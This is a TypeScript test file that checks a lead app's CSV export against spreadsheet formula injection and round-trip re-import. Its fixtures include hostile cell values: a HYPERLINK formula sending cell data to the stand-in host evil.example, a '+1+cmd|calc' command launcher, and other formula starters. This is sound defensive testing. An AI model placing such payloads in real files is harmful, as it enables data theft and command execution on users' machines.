import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import type { Core } from '../../../src/main/core';
import type { NewLead } from '../../../src/main/core/leads/repo';
import { call, freshCore, importFile, leadsOf } from './helpers';

// CSV injection: text from imported files (names, phone labels, notes) must never run as a formula
// when an exported file is opened in a spreadsheet, and must come back unchanged when re-imported.

const opened: (() => void)[] = [];
afterEach(() => {
  for (const done of opened.splice(0)) done();
});
const open = (): Core => {
  const fresh = freshCore();
  opened.push(fresh.done);
  return fresh.core;
};

/** What a spreadsheet treats as the start of a formula or of a new row (OWASP's list, plus LF). */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\n]/;
const BARE_E164 = /^\+[1-9]\d{1,14}$/;

const lead = (name: string, extra: Partial<NewLead> = {}): NewLead => ({
  name,
  title: null,
  company: null,
  email: null,
  phones: [],
  timeZone: 'America/New_York',
  country: 'US',
  region: null,
  city: null,
  sourceChannel: 'outbound_list',
  sourceDetail: null,
  direction: 'outbound',
  status: 'new',
  ...extra,
});

const phone = (e164: string, label: string | null = null, ext: string | null = null) => ({
  e164,
  ext,
  label,
  raw: e164,
});

const HOSTILE: NewLead[] = [
  lead('=HYPERLINK("http://evil.example/?"&A1,"Click")', {
    phones: [phone('+14155550101', '=1+2')],
  }),
  lead('+1+cmd|calc', { title: '-2+3', company: '@SUM(1,2)', phones: [phone('+14155550102')] }),
  lead('Tab Start', { city: '\t=1+1', sourceDetail: '\r=1+1', phones: [phone('+14155550103', null, '12')] }),
  lead('Plain Person', {
    phones: [phone('+442071838750', 'mobile')],
    region: '-',
    email: 'plain@example.com',
  }),
];

const exportRows = async (core: Core): Promise<string[][]> => {
  const { csv } = await call<{ csv: string }>(core, 'imports.exportCsv', {});
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return parsed.data;
};

describe('CSV export against formula injection', () => {
  it('quotes every cell that a spreadsheet would run, and leaves bare E.164 numbers as they are', async () => {
    const core = open();
    core.db.transaction(() => {
      for (const input of HOSTILE) core.leads.create(input);
    })();
    const [header, ...rows] = await exportRows(core);
    expect(rows).toHaveLength(HOSTILE.length);
    const phoneColumns = (header ?? []).flatMap((name, i) => (name.startsWith('Phone') ? [i] : []));

    for (const row of rows) {
      for (const cell of row) {
        // Either harmless from its first character, or a bare number: nothing else starts like a formula.
        if (RUNS_AS_FORMULA.test(cell)) expect(cell).toMatch(BARE_E164);
      }
    }
    const cells = rows.flat();
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(cells).toContain("'+1+cmd|calc");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(1,2)");
    expect(cells).toContain("'-");
    // A phone with a label or an extension carries text after the number: quoted too.
    expect(cells).toContain("'+14155550101 (=1+2)");
    expect(cells).toContain("'+14155550103 ext. 12");
    expect(cells).toContain("'+442071838750 (mobile)");
    // A bare E.164 number stays dialable as written.
    const phones = rows.flatMap((row) => phoneColumns.map((i) => row[i]));
    expect(phones).toContain('+14155550102');
  });

  it('re-imports the quoted cells as the text that was exported', async () => {
    const source = open();
    // Phone labels are words on import ("mobile", "work"); a label like "=1+2" is refused there.
    const wordLabels = HOSTILE.map((input) => ({
      ...input,
      phones: input.phones.map((p) => (p.label?.startsWith('=') ? { ...p, label: 'work' } : p)),
    }));
    source.db.transaction(() => {
      for (const input of wordLabels) source.leads.create(input);
    })();
    await call(source, 'leads.setResearch', {
      leadId: (await leadsOf(source)).find((l) => l.name === 'Plain Person')?.id,
      body: '- asked for pricing\n- call back Monday',
    });
    const { csv } = await call<{ csv: string }>(source, 'imports.exportCsv', {});
    const target = open();
    expect(await importFile(target, Buffer.from(csv, 'utf8'), { region: 'US' })).toMatchObject({
      imported: HOSTILE.length,
      rejected: [],
    });
    // Import trims the whitespace around every cell, so a leading tab or CR is not expected back.
    const text = (value: string | null) => value?.trim() ?? null;
    const pick = async (core: Core) =>
      (await leadsOf(core))
        .map((l) => ({
          name: l.name,
          title: l.title,
          company: l.company,
          region: l.region,
          city: text(l.city),
          sourceDetail: text(l.sourceDetail),
          phones: l.phones.map(({ e164, ext, label }) => ({ e164, ext, label })),
        }))
        .sort((a, b) => a.name.localeCompare(b.name));
    expect(await pick(target)).toEqual(await pick(source));
    const plain = (await leadsOf(target)).find((l) => l.name === 'Plain Person');
    const detail = await call<{ research: { body: string } | null }>(target, 'leads.get', { id: plain?.id });
    expect(detail.research?.body).toBe('- asked for pricing\n- call back Monday');
  });
});
